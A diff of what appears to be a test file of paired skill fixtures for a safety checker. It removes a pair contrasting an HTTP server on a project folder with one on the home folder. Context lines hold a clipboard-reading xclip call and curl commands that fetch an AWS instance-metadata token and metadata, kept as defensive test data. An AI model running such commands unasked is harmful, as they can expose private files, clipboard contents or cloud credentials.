@@ -242,11 +242,6 @@ const PAIRS: readonly (readonly [string, Files, Files])[] = [
     { 'SKILL.md': skill('Run `python3 a.py`.'), 'a.py': copied('"xclip", "-selection", "clipboard", "-o"') },
   ],
   [
-    'a folder that is filled in and shown, and the home folder',
-    { 'SKILL.md': skill('```bash\ncd <project-dir> && python3 -m http.server 8080\n```') },
-    { 'SKILL.md': skill('```bash\ncd && python3 -m http.server 8080\n```') },
-  ],
-  [
     'what the service of a machine gave, shown to it, and to somebody else',
     run(
       'TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token)\ncurl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/',
